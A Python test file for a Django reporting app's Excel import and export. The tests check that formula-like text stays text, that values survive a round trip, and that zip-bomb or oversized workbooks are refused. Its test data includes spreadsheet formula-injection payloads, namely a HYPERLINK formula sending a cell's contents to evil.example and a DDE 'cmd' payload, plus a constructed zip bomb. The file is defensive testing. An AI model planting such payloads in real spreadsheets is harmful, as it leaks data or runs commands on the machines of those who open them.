"""Excel both ways: text is never a formula on the way out, nothing is lost on the way back, and an
upload is measured before it is parsed."""

import io
import unicodedata
import zipfile

import pytest
from openpyxl import load_workbook

from exports.xlsx import render_workbook
from reporting import excel, services
from reporting.models import IndicatorFigure, Report, TaskProgress
from tests.reporting_helpers import complete_data, filled_report, periods, reporting_test_settings  # noqa: F401

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "=> Kết quả: tổ chức 12 lớp tập huấn.",
    "+84 912 345 678",
    "- Tuyên truyền tại 30 xã.",
    "@SUM(1+1)",
]


def _fill_with(report, user, texts):
    """Every text field of ``report`` holding one of ``texts``, through the service."""
    data = complete_data(report)
    data["results"], data["limitations"], data["proposals"] = texts[0], texts[1], texts[2]
    data["dispatch_signer"] = texts[3]
    for i, code in enumerate(data["figures"]):
        data["figures"][code]["note"] = texts[i % len(texts)]
        data["figures"][code]["warning_comment"] = texts[(i + 1) % len(texts)]
    for i, code in enumerate(data["tasks"]):
        data["tasks"][code].update(
            results=texts[i % len(texts)], difficulties=texts[(i + 2) % len(texts)], proposals="=1+1"
        )
    saved = services.report_save(report=report, user=user, data=data, expected_version=report.version)
    assert not saved.save_errors, saved.save_errors
    return Report.objects.get(pk=report.pk)


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))  # formulas as written, not computed
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _snapshot(report: Report) -> dict:
    report = Report.objects.get(pk=report.pk)
    fields = {name: getattr(report, name) for name in services.REPORT_FIELDS}
    figures = {
        f.target.code: {name: getattr(f, name) for name in services.FIGURE_FIELDS}
        for f in IndicatorFigure.objects.filter(report=report).select_related("target")
    }
    tasks = {
        p.task.code: {name: getattr(p, name) for name in services.TASK_FIELDS}
        for p in TaskProgress.objects.filter(report=report).select_related("task")
    }
    return {"fields": fields, "figures": figures, "tasks": tasks}


def _upload(content: bytes, name="bao-cao.xlsx"):
    buffer = io.BytesIO(content)
    buffer.name = name
    return buffer


# -- out: formulas and control characters ---------------------------------------------------------


def test_text_that_starts_like_a_formula_is_written_as_text_in_the_report_workbook(h1, hanoi_officer):
    report = services.report_start(agency=hanoi_officer.agency, period=h1, user=hanoi_officer)
    report = _fill_with(report, hanoi_officer, INJECTIONS)

    cells = _cells(excel.report_workbook_bytes(report))

    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    written = {c.value for c in cells}
    assert set(INJECTIONS) <= written
    # Excel keeps them text even when the officer edits the cell.
    assert all(c.quotePrefix for c in cells if c.value in INJECTIONS)


def test_text_that_starts_like_a_formula_is_written_as_text_in_the_analysts_workbook(h1, hanoi_officer):
    report = filled_report(h1, hanoi_officer)
    report = _fill_with(report, hanoi_officer, INJECTIONS)
    services.report_submit(report=report, user=hanoi_officer)

    cells = _cells(render_workbook(h1, include_submitted=True))

    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert set(INJECTIONS) & {c.value for c in cells}


def test_control_characters_already_stored_never_break_an_export(h1, hanoi_officer):
    # Given rows saved before text was cleaned where it enters (no NUL: PostgreSQL never stores one)
    report = filled_report(h1, hanoi_officer)
    services.report_submit(report=report, user=hanoi_officer)
    Report.objects.filter(pk=report.pk).update(results="Đầu\x0bdòng\x01cuối\x02")
    TaskProgress.objects.filter(report=report).update(results="Kết\x1fquả\x7f")
    IndicatorFigure.objects.filter(report=report).update(note="ghi\x08chú")

    # When both workbooks are written, then they are, without the characters
    report_cells = {c.value for c in _cells(excel.report_workbook_bytes(Report.objects.get(pk=report.pk)))}
    national_cells = {c.value for c in _cells(render_workbook(h1, include_submitted=True))}
    assert "Đầu\ndòngcuối" in report_cells
    assert {"Kếtquả", "ghichú"} <= national_cells


# -- back: the round trip keeps every value -------------------------------------------------------


@pytest.mark.parametrize("code", ["2025-H1", "2025-FY"])
def test_uploading_the_downloaded_workbook_unchanged_keeps_every_value(plan, hanoi_officer, code):
    period = periods(plan)[code]
    report = services.report_start(agency=hanoi_officer.agency, period=period, user=hanoi_officer)
    report = _fill_with(report, hanoi_officer, INJECTIONS)
    before = _snapshot(report)

    result = excel.import_workbook(report=report, user=hanoi_officer, file=_upload(excel.report_workbook_bytes(report)))

    assert result.ok, result.errors
    assert _snapshot(report) == before
    assert before["fields"]["results"] == INJECTIONS[0]


def test_a_formula_without_a_computed_value_is_listed_and_nothing_is_saved(h1, hanoi_officer):
    # Given a workbook where a script (or openpyxl) wrote formulas and no computed values
    report = filled_report(h1, hanoi_officer)
    before = _snapshot(report)
    wb = load_workbook(io.BytesIO(excel.report_workbook_bytes(report)))
    general = {r[0].value: r for r in wb["Thông tin chung"].iter_rows(min_row=2)}
    general["budget_local"][2].value = "=1000000+250000"
    general["proposals"][2].value = "=> Đề nghị bố trí kinh phí"  # openpyxl makes this a formula too
    buffer = io.BytesIO()
    wb.save(buffer)

    result = excel.import_workbook(report=report, user=hanoi_officer, file=_upload(buffer.getvalue()))

    assert not result.ok
    rows = {(p.sheet, p.row) for p in result.errors}
    assert ("Thông tin chung", general["budget_local"][2].row) in rows
    assert ("Thông tin chung", general["proposals"][2].row) in rows
    assert all("công thức" in p.message for p in result.errors)
    assert _snapshot(report) == before


def test_a_formula_with_its_computed_value_is_read_as_that_value(h1, hanoi_officer):
    report = filled_report(h1, hanoi_officer)
    content = excel.report_workbook_bytes(report)
    # Given the budget cell as Excel saves a formula: the formula and, beside it, its value
    row = next(
        r for r in load_workbook(io.BytesIO(content))["Thông tin chung"].iter_rows() if r[0].value == "budget_local"
    )
    cell = row[2].coordinate
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    start = xml.index(f'<c r="{cell}"')
    end = xml.index("</c>", start) + len("</c>")
    parts["xl/worksheets/sheet1.xml"] = (
        xml[:start] + f'<c r="{cell}"><f>1000000+250000+1</f><v>1250001</v></c>' + xml[end:]
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)

    result = excel.import_workbook(report=report, user=hanoi_officer, file=_upload(out.getvalue()))

    assert result.ok, result.errors
    assert Report.objects.get(pk=report.pk).budget_local == 1_250_001


# -- back: a workbook is measured before it is parsed ---------------------------------------------


def _rewritten(content: bytes, change) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


def test_a_workbook_that_unpacks_far_larger_than_it_is_is_refused_before_parsing(h1, hanoi_officer, monkeypatch):
    report = filled_report(h1, hanoi_officer)
    before = _snapshot(report)

    def pad(parts):
        # 40 MB of comment inside the tasks sheet: well-formed XML, a few KB zipped.
        xml = parts["xl/worksheets/sheet3.xml"]
        parts["xl/worksheets/sheet3.xml"] = xml.replace(
            b"</worksheet>", b"<!--" + b" " * 40_000_000 + b"--></worksheet>"
        )

    bomb = _rewritten(excel.report_workbook_bytes(report), pad)
    assert len(bomb) < 200_000
    parsed = []
    monkeypatch.setattr(excel, "load_workbook", lambda *a, **k: parsed.append(1))

    result = excel.import_workbook(report=report, user=hanoi_officer, file=_upload(bomb))

    assert not result.ok
    assert "giải nén" in result.errors[0].message
    assert parsed == []  # refused from the zip's directory alone
    assert _snapshot(report) == before


def test_a_workbook_with_too_many_sheets_or_rows_is_refused(h1, hanoi_officer):
    report = filled_report(h1, hanoi_officer)
    content = excel.report_workbook_bytes(report)
    wb = load_workbook(io.BytesIO(content))
    for i in range(12):
        wb.create_sheet(f"Thêm {i}")
    buffer = io.BytesIO()
    wb.save(buffer)
    sheets = excel.import_workbook(report=report, user=hanoi_officer, file=_upload(buffer.getvalue()))

    wb = load_workbook(io.BytesIO(content))
    wb["Nhiệm vụ"].cell(row=50_000, column=1, value="x")
    buffer = io.BytesIO()
    wb.save(buffer)
    rows = excel.import_workbook(report=report, user=hanoi_officer, file=_upload(buffer.getvalue()))

    assert not sheets.ok and "trang tính" in sheets.errors[0].message
    assert not rows.ok and "dòng" in rows.errors[0].message


def test_decomposed_text_in_an_upload_is_stored_composed(h1, hanoi_officer):
    report = filled_report(h1, hanoi_officer)
    wb = load_workbook(io.BytesIO(excel.report_workbook_bytes(report)))
    general = {r[0].value: r for r in wb["Thông tin chung"].iter_rows(min_row=2)}
    general["limitations"][2].value = unicodedata.normalize("NFD", "Thiếu cán bộ ở Hà Nội")
    buffer = io.BytesIO()
    wb.save(buffer)

    result = excel.import_workbook(report=report, user=hanoi_officer, file=_upload(buffer.getvalue()))

    assert result.ok, result.errors
    assert Report.objects.get(pk=report.pk).limitations == "Thiếu cán bộ ở Hà Nội"
